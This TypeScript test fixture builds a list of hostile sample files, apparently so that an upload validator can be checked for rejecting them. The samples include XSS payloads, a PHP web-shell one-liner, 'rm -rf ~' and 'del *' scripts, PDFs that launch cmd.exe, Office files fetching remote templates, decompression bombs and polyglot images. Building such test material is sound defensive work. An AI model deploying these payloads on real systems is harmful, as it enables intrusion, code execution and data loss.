import {
  flate,
  latin,
  makeGif,
  makeJpeg,
  makeOffice,
  makeOpenDocument,
  makePage,
  makePng,
  makeStream,
  makeWebp,
  makeZip,
  officeParts,
  pngChunk,
  utf8,
} from './make'

type Hostile = [what: string, name: string, bytes: Buffer]

const PAGE = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const XSLT = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>'
const MZ = `MZ\x90\0${'\0'.repeat(60)}PE\0\0`
const ELF = `\x7fELF\x02\x01\x01${'\0'.repeat(64)}`
const JAR = makeZip([
  ['META-INF/MANIFEST.MF', 'Main-Class: A\n'],
  ['A.class', '\xca\xfe\xba\xbe'],
])
const SCRIPT = '/S /JavaScript /JS (app.alert(1))'

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const word = (name: string, content: string | Buffer) =>
  makeOffice('docx', { more: [[name, content]] })
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const nothing = Buffer.alloc(30 * 1024 * 1024)

const pages: Hostile[] = [
  ['a page as a picture', 'photo.png', utf8(PAGE)],
  ['a page as a text', 'a.txt', utf8(PAGE)],
  ['a page as a PDF', 'a.pdf', utf8(PAGE)],
  ['a page', 'a.html', utf8(PAGE)],
  ['a page in UTF-16', 'a.txt', Buffer.from(`\ufeff${PAGE}`, 'utf16le')],
  ['a page in UTF-7', 'a.txt', utf8('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['a page that begins with spaces', 'a.txt', utf8(`${' \n'.repeat(2000)}${PAGE}`)],
  ['a page in the midst of a text', 'a.txt', utf8(`${'word '.repeat(90_000)}<IFRAME src=x>`)],
  ['a text that begins with a script', 'a.txt', utf8('<script>alert(1)</script>')],
  ['a text with a picture that runs', 'a.txt', utf8('Hello <img src=x onerror=alert(1)>')],
  ['a table with a page in a cell', 'a.csv', utf8('a,b\n1,"<svg/onload=alert(1)>"\n')],
  ['a text with an address that runs', 'a.txt', utf8('see javascript:alert(1)')],
  [
    'a page of XML',
    'a.xhtml',
    utf8(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`),
  ],
  ['a drawing', 'a.svg', utf8(SVG)],
  ['a drawing as a picture', 'a.png', utf8(SVG)],
  ['a drawing as a text', 'a.txt', utf8(SVG)],
  ['a drawing behind a byte order mark', 'a.svg', utf8(`\ufeff${SVG}`)],
  ['a drawing behind a byte order mark, as a text', 'a.txt', utf8(`\ufeff${SVG}`)],
  ['a drawing, zipped', 'a.svgz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), flate(SVG)])],
  ['XML with a style sheet that runs', 'a.xml', utf8(XSLT)],
  ['the same as a text', 'a.txt', utf8(XSLT)],
  ['a mailed page', 'a.mhtml', utf8('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n')],
  ['a mailed page as a text', 'a.txt', utf8('MIME-Version: 1.0\r\nContent-Type: text/html\r\n')],
  ['an application of pages', 'a.hta', utf8('<HTA:APPLICATION id=x>')],
  ['a style that runs', 'a.txt', utf8('<style>@import url(//x)</style>')],
]

const programs: Hostile[] = [
  ['a program', 'a.exe', latin(MZ)],
  ['a program as a picture', 'a.png', latin(MZ)],
  ['a program as a text', 'a.txt', latin(MZ)],
  ['a program of Linux', 'a', latin(ELF)],
  ['a script of a shell', 'a.sh', utf8('#!/bin/sh\nrm -rf ~\n')],
  ['a script of a shell as a text', 'a.txt', utf8('#!/bin/sh\nrm -rf ~\n')],
  ['a script of Windows', 'a.bat', utf8('@echo off\r\ndel *\r\n')],
  ['a script of Windows as a text', 'a.txt', utf8('@echo off\r\ndel *\r\n')],
  ['a script of a page', 'a.js', utf8('alert(1)')],
  ['a script of PowerShell', 'a.ps1', utf8('Get-Process')],
  ['a shortcut', 'a.lnk', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['a shortcut of the web as a text', 'a.txt', utf8('[InternetShortcut]\nURL=file://x\n')],
  ['a program of Java', 'a.jar', JAR],
  ['a program of Java as a document', 'a.docx', JAR],
  ['a setting of the registry', 'a.txt', utf8('Windows Registry Editor Version 5.00\n')],
  ['an archive', 'a.zip', makeZip([['a.txt', 'hello']])],
  ['rich text', 'a.txt', utf8(String.raw`{\rtf1\object\objdata}`)],
  ['an old Word document', 'a.doc', Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex')],
  ['PHP', 'a.txt', utf8('<?php system($_GET[0]); ?>')],
  ['a picture with PHP in it', 'a.gif', makeGif('<?php system($_GET[0]); ?>')],
]

const pictures: Hostile[] = [
  ['a GIF that is a script', 'a.gif', latin('GIF89a/*\0\0\0\0\0*/=1;alert(1)')],
  ['a GIF with a page in its comment', 'a.gif', makeGif('<script>alert(1)</script>')],
  ['a GIF with a script behind it', 'a.gif', Buffer.concat([makeGif(), utf8(';alert(1)//')])],
  ['a GIF with an archive behind it', 'a.gif', Buffer.concat([makeGif(), JAR])],
  ['a JPEG with a page in its comment', 'a.jpg', makeJpeg('*/<script>alert(1)</script>')],
  ['a JPEG with a page behind it', 'a.jpg', makeJpeg('', PAGE)],
  ['a JPEG with an archive behind it', 'a.jpg', Buffer.concat([makeJpeg(), JAR])],
  ['a JPEG that is a PDF too', 'a.jpg', makeJpeg('%PDF-1.4 1 0 obj')],
  ['a JPEG without its end', 'a.jpg', makeJpeg().subarray(0, -2)],
  ['a JPEG of three bytes', 'a.jpg', latin('\xff\xd8\xff')],
  ['a PNG with a page behind it', 'a.png', Buffer.concat([makePng(), utf8(PAGE)])],
  ['a PNG with anything behind it', 'a.png', Buffer.concat([makePng(), latin('extra')])],
  ['a PNG with a page in its words', 'a.png', makePng([pngChunk('tEXt', latin(`a\0${PAGE}`))])],
  ['a PNG with an archive behind it', 'a.png', Buffer.concat([makePng(), JAR])],
  ['a PNG without its end', 'a.png', makePng().subarray(0, -12)],
  ['a PNG whose sums are wrong', 'a.png', Buffer.from(makePng()).fill(7, 30, 33)],
  ['a PNG of nothing but its beginning', 'a.png', latin('\x89PNG\r\n\x1a\n')],
  ['a PNG as large as a town', 'a.png', makePng([], { width: 60_000, height: 60_000 })],
  ['a WebP with a page behind it', 'a.webp', makeWebp(PAGE)],
  ['a WebP without its end', 'a.webp', makeWebp().subarray(0, 24)],
]

const papers: Hostile[] = [
  ['a PDF with a script', 'a.pdf', makePage(`/OpenAction << ${SCRIPT} >>`)],
  [
    'a PDF with a script in other letters',
    'a.pdf',
    makePage('/AA << /O << /S /J#61vaScript >> >>'),
  ],
  [
    'a PDF with a packed script',
    'a.pdf',
    makePage('/OpenAction 9 0 R', [
      makeStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(`9 0 << ${SCRIPT} >>`)),
    ]),
  ],
  [
    'a PDF with a script packed in an odd way',
    'a.pdf',
    makePage('', [makeStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', latin('\x80\x0b'))]),
  ],
  [
    'a PDF with packed objects that cannot be read',
    'a.pdf',
    makePage('', [makeStream('/Type /Obj#53tm /N 1 /Filter /FlateDecode', latin('none'))]),
  ],
  [
    'a PDF that grows without end',
    'a.pdf',
    makePage(
      '',
      Array.from({ length: 5 }, () =>
        makeStream('/Filter /FlateDecode', flate(nothing.toString('latin1'))),
      ),
    ),
  ],
  ['a PDF that starts a program', 'a.pdf', makePage('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a PDF with a file in it', 'a.pdf', makePage('/Names << /EmbeddedFiles 4 0 R >>')],
  ['a PDF that sends a form away', 'a.pdf', makePage('/AA << /O << /S /SubmitForm >> >>')],
  ['a PDF with a form that runs', 'a.pdf', makePage('/AcroForm << /XFA 4 0 R >>')],
  ['a PDF that plays a film', 'a.pdf', makePage('/A << /S /Rendition /JS 4 0 R >>')],
  ['a locked PDF', 'a.pdf', makePage('', [], { trailer: '/Encrypt 4 0 R ' })],
  ['a PDF with a page before it', 'a.pdf', Buffer.concat([utf8(PAGE), makePage()])],
  ['a PDF with a page behind it', 'a.pdf', makePage('', [], { tail: PAGE })],
  ['a PDF with a page in it', 'a.pdf', makePage('', [`(${PAGE})`])],
  ['a PDF with an archive behind it', 'a.pdf', Buffer.concat([makePage(), JAR])],
  ['a PDF without its end', 'a.pdf', makePage().subarray(0, 200)],
]

const documents: Hostile[] = [
  ['a document with macros', 'a.docm', makeOffice('docx', { types: macroType })],
  ['the same under another name', 'a.docx', makeOffice('docx', { types: macroType })],
  ['a document with hidden macros', 'a.docx', word('word/vbaProject.bin', 'x')],
  ['a document with a packed program', 'a.docx', word('word/embeddings/oleObject1.bin', MZ)],
  ['a document with a program', 'a.docx', word('word/media/setup.exe', MZ)],
  ['a document with a page', 'a.docx', word('word/afchunk.html', PAGE)],
  ['a document with a control', 'a.docx', word('word/activeX/activeX1.xml', '<x/>')],
  [
    'a document that fetches its template',
    'a.docx',
    word('word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://x.example/a.dotm')),
  ],
  [
    'a document that fetches an object',
    'a.docx',
    word('word/_rels/document.xml.rels', relation('oleObject', 'mhtml:https://x.example/!x')),
  ],
  [
    'a document with a link that runs',
    'a.docx',
    word('word/_rels/document.xml.rels', relation('hyperlink', 'javascript:alert(1)')),
  ],
  [
    'a document with a field that starts a program',
    'a.docx',
    word('word/document.xml', '<w:instrText>D</w:instrText><w:instrText>DEAUTO cmd</w:instrText>'),
  ],
  [
    'a document with definitions that grow',
    'a.docx',
    word('word/document.xml', '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'),
  ],
  [
    'a document in letters that hide it',
    'a.docx',
    word('word/document.xml', Buffer.from('\ufeff<w:document/>', 'utf16le')),
  ],
  [
    'slides that start a program',
    'a.pptx',
    makeOffice('pptx', { more: [['ppt/slides/slide1.xml', '<a action="ppaction://program"/>']] }),
  ],
  [
    'a spreadsheet with live data',
    'a.xlsx',
    makeOffice('xlsx', { more: [['xl/externalLinks/externalLink1.xml', '<ddeLink/>']] }),
  ],
  [
    'a spreadsheet with old macros',
    'a.xlsx',
    makeOffice('xlsx', { more: [['xl/macrosheets/sheet1.xml', '<x/>']] }),
  ],
  ['a document that says nothing of itself', 'a.docx', makeZip([['word/document.xml', '<a/>']])],
  ['an archive that grows', 'a.docx', makeOffice('docx', { more: [['word/a.xml', nothing]] })],
  [
    'an archive that hides how it grows',
    'a.docx',
    makeOffice('docx', { more: [['word/a.xml', nothing, { size: 9 }]] }),
  ],
  [
    'an archive with wrong sums',
    'a.docx',
    makeOffice('docx', { more: [['a.xml', 'x', { crc: 1 }]] }),
  ],
  ['an archive that leads elsewhere', 'a.docx', word('../../outside.xml', '<a/>')],
  [
    'an archive with two names for one thing',
    'a.docx',
    makeOffice('docx', { more: [['word/a.xml', 'x', { localName: 'word/b.xml' }]] }),
  ],
  [
    'an archive with one name for two things',
    'a.docx',
    makeZip([...officeParts('docx'), ['WORD/document.xml', '<b/>']]),
  ],
  ['a locked archive', 'a.docx', makeOffice('docx', { more: [['word/a.xml', 'x', { flags: 1 }]] })],
  ['an archive with a page before it', 'a.docx', makeZip(officeParts('docx'), { before: PAGE })],
  ['an archive with a page behind it', 'a.docx', makeZip(officeParts('docx'), { comment: PAGE })],
  [
    'an OpenDocument text with macros',
    'a.odt',
    makeOpenDocument('text', [['Basic/script-lc.xml', '<a/>']]),
  ],
  [
    'an OpenDocument text that runs on an event',
    'a.odt',
    makeOpenDocument('text', [['styles.xml', '<script:event-listener/>']]),
  ],
  [
    'a locked OpenDocument text',
    'a.odt',
    makeOpenDocument('text', [], '<manifest:encryption-data/>'),
  ],
  ['an OpenDocument drawing', 'a.odg', makeOpenDocument('graphics')],
]

const broken: Hostile[] = [
  ['a text of spaces', 'a.txt', utf8(' \n \n')],
  ['a text that is no UTF-8', 'a.txt', latin('Jos\xe9 na\xefve')],
  ['a table with a NUL', 'a.csv', latin('a,b\n1,\0\n')],
  ['a text with marks that move the cursor', 'a.txt', latin('hello \x1b[2J')],
  ['noise', 'a.png', Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 7919 + 13) % 256))],
]

/** Files made to do harm, or that are not what they claim: none of them is taken. */
export const HOSTILE: Hostile[] = [
  ...pages,
  ...programs,
  ...pictures,
  ...papers,
  ...documents,
  ...broken,
]
